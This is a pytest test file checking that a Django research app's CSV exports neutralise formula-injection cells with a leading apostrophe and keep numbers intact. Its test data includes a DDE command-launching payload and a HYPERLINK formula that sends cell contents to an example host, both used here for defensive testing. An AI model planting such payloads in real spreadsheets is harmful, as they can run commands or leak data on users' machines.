"""CSV cells a spreadsheet would run as a formula are neutralised in every CSV the app
writes: a leading apostrophe (OWASP's rule), numbers left as numbers, and the datasheet
says so."""

import csv
import io
import re
import zipfile

import pytest
from django.db import transaction
from hypothesis import given, settings
from hypothesis import strategies as st

from elicitation.models import Question, SurveyAnswer, ValuesCard, WiserJudgment
from moralgraph.models import Context, UpgradeHypothesis, Value
from moralgraph.services.exports import FORMATS, build_export, data
from moralgraph.services.exports.data import IsoTime, csv_bytes, raw_rows, safe_cell, table_csv
from moralgraph.services.importers import import_reference
from tests import factories
from tests.moralgraph.support import REFERENCE

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://example.org/x?d="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rReturned",
]
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def test_safe_cell_follows_the_owasp_rule_and_keeps_numbers():
    assert [safe_cell(text) for text in FORMULAS[:-1]] == [f"'{text}" for text in FORMULAS[:-1]]
    assert safe_cell("\rReturned") == "'\nReturned"
    for kept in ["-0.25", "+3", "-1e-05", "42", "", "plain", "a=b", " =spaced", 7, -3.5, None]:
        assert safe_cell(kept) == kept
    assert safe_cell("-inf") == "'-inf"  # not a number a spreadsheet reads as such
    assert safe_cell("-\u0663") == "'-\u0663"  # only ASCII digits make a number


def test_csv_bytes_neutralises_header_and_cells_and_still_quotes():
    content = csv_bytes(["=id", "text"], [[-1, '=1+1,"x"'], [2, "ok"]]).decode()
    rows = list(csv.reader(io.StringIO(content)))
    assert rows == [["'=id", "text"], ["-1", '\'=1+1,"x"'], ["2", "ok"]]


def test_a_line_break_typed_in_a_browser_stays_inside_its_cell():
    # A textarea sends CRLF; a lone CR was written unquoted and split the row.
    content = csv_bytes(["a", "b"], [["one\r\ntwo\rthree", "x"]]).decode()
    assert list(csv.reader(io.StringIO(content))) == [["a", "b"], ["one\ntwo\nthree", "x"]]


def careful_csv(header, rows, plain=()):
    """What csv_bytes writes, cell by cell: the rule its shortcut must never change."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([cell if i in plain else safe_cell(cell) for i, cell in enumerate(row)])
    return buffer.getvalue().encode()


# Text made mostly of what matters here (formula characters, separators, quotes, line
# breaks, digits), any other character now and then; and plain cells, so that a chunk
# often holds a single unsafe cell among safe ones.
CELL_TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from("=+-@\t\r\n,\"' 0123456789.eE"), st.characters(exclude_categories=("Cs",))
    ),
    max_size=6,
)
CELL = st.one_of(
    CELL_TEXT,
    # Starts unsafe; often with what makes csv quote it, so that it starts after a quote.
    st.builds(
        lambda first, rest, last: first + rest + last,
        st.sampled_from("=+-@\t\r"),
        CELL_TEXT,
        st.sampled_from(["", ",", '"', "\n", "\r\n"]),
    ),
    st.sampled_from(["ok", "a b", "1", ""]),
    st.integers(-5, 5),
    st.none(),
)


@settings(max_examples=1000)
@given(rows=st.lists(st.lists(CELL, min_size=3, max_size=3), max_size=8))
def test_csv_bytes_writes_what_safe_cell_on_every_cell_writes(rows):
    # Chunks of two rows: a table of a few rows has safe and unsafe chunks side by side.
    original = data.CSV_CHUNK
    data.CSV_CHUNK = 2
    try:
        assert csv_bytes(["a", "b", "c"], rows) == careful_csv(["a", "b", "c"], rows)
        # A cell the caller calls plain is written as it is, in a chunk written either way.
        plain_rows = [[f"id{i}", *row[1:]] for i, row in enumerate(rows)]
        assert csv_bytes(["a", "b", "c"], plain_rows, plain=(0,)) == careful_csv(
            ["a", "b", "c"], plain_rows, plain=(0,)
        )
    finally:
        data.CSV_CHUNK = original


def test_one_unsafe_cell_deep_in_a_large_table_is_made_safe():
    rows = [[i, "fine", "2024-03-01T10:00:00Z"] for i in range(12_000)]
    rows[7_777][1] = "@SUM(1,2)"
    lines = csv_bytes(["id", "text", "at"], rows, plain=(0, 2)).decode().splitlines()
    assert lines[7_778] == '7777,"\'@SUM(1,2)",2024-03-01T10:00:00Z'
    assert lines[7_779] == "7778,fine,2024-03-01T10:00:00Z"


@pytest.fixture
def study():
    """The reference study, with formula-like text wherever a person typed or an LLM
    wrote something that ends up in a CSV table."""
    study = import_reference(REFERENCE, study_slug="ref").study
    texts = iter(FORMULAS * 3)
    for card in ValuesCard.objects.filter(study=study, status=ValuesCard.Status.SUBMITTED)[:3]:
        card.title, card.description = next(texts), next(texts)
        card.policies = [next(texts), *card.policies[1:]]
        card.save()
    WiserJudgment.objects.filter(participant__study=study, reason_private=False).update(
        reason=FORMULAS[0]
    )
    SurveyAnswer.objects.filter(participant__study=study).update(comment=FORMULAS[3])
    Question.objects.filter(study=study).update(text=FORMULAS[1])
    for i, context in enumerate(Context.objects.filter(study=study)):
        context.text = f"{FORMULAS[2]} {i}"  # a context's text is unique in its study
        context.save()
    for i, value in enumerate(Value.objects.filter(study=study)):
        value.title, value.description = f"{FORMULAS[4]} {i}", FORMULAS[5]
        value.save()
    UpgradeHypothesis.objects.filter(study=study).update(story=FORMULAS[0])
    return study


def _csv_files(name: str, content: bytes) -> dict[str, str]:
    if name.endswith(".csv"):
        return {name: content.decode()}
    if not name.endswith(".zip"):
        return {}
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {n: archive.read(n).decode() for n in archive.namelist() if n.endswith(".csv")}


def test_no_csv_of_any_export_holds_a_cell_a_spreadsheet_would_run(study):
    checked = {}
    for fmt, spec in FORMATS.items():
        for mode in spec.modes:
            export = build_export(study=study, fmt=fmt, mode=mode, generate=True)
            for name, text in _csv_files(export.filename, export.content).items():
                rows = list(csv.reader(io.StringIO(text)))
                checked[f"{fmt}/{mode}/{name}"] = rows
                for row in rows:
                    for cell in row:
                        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                            assert NUMBER.fullmatch(cell), (fmt, mode, name, cell)
    # Every table of the csv export and of the bundle was looked at, in both modes.
    assert {"csv/default/cards.csv", "csv/compat/edges.csv"} <= set(checked)
    assert "bundle/default/tables/judgments.csv" in checked
    # The formula-like text did reach the tables, made harmless, not dropped.
    cells = {cell for rows in checked.values() for row in rows for cell in row}
    for text in FORMULAS:
        written = "'" + text.replace("\r", "\n")
        assert any(cell.startswith(written) for cell in cells), text
    # Numbers stayed numbers: no score or count was given an apostrophe.
    assert not any(cell[:1] == "'" and NUMBER.fullmatch(cell[1:]) for cell in cells)


def test_the_datasheet_explains_the_apostrophe(study):
    export = build_export(study=study, fmt="bundle", generate=True)
    readme = zipfile.ZipFile(io.BytesIO(export.content)).read("README.md").decode()
    assert "apostrophe (')" in readme
    assert "OWASP" in readme


# What a text column can hold: no NUL (PostgreSQL refuses it), no lone surrogate.
DB_TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from("=+-@\t\r\n,\"' 0123456789.eE\\"),
        st.characters(exclude_categories=("Cs",), exclude_characters="\x00"),
    ),
    max_size=12,
)
DB_CELL = st.one_of(
    DB_TEXT,
    st.builds(str.__add__, st.sampled_from("=+-@\t\r"), DB_TEXT),
    st.sampled_from(["", "ok", "\\.", "-1.5e3", "-7", "+3", ".5", "-", "=", '""']),
)


@settings(max_examples=60, deadline=None)
@given(cells=st.lists(st.tuples(DB_CELL, DB_CELL), min_size=1, max_size=5))
def test_table_csv_writes_what_csv_bytes_writes(cells):
    """On PostgreSQL the database writes the table (COPY) and makes its cells safe in SQL:
    the same bytes as the rows read into Python and written by csv_bytes. (On SQLite the
    two are one.)"""
    with transaction.atomic():
        card = factories.ValuesCardFactory()
        ids = [
            ValuesCard.objects.create(
                interview=card.interview,
                participant=card.participant,
                study=card.study,
                question=card.question,
                title=title,
                description=description,
            ).pk
            for title, description in cells
        ]
        rows = (
            ValuesCard.objects.filter(pk__in=ids)
            .annotate(at=IsoTime("submitted_at"))
            .order_by("pk")
            .values_list("pk", "title", "description", "at")
        )
        header = ["id", "title", "=description", "at"]
        written = table_csv(header, rows, plain=(0, 3))
        assert written == csv_bytes(header, raw_rows(rows), plain=(0, 3))
        read = list(csv.reader(io.StringIO(written.decode(), newline="")))
        assert [row[1:3] for row in read[1:]] == [
            [safe_cell(title), safe_cell(description)] for title, description in cells
        ]
        transaction.set_rollback(True)
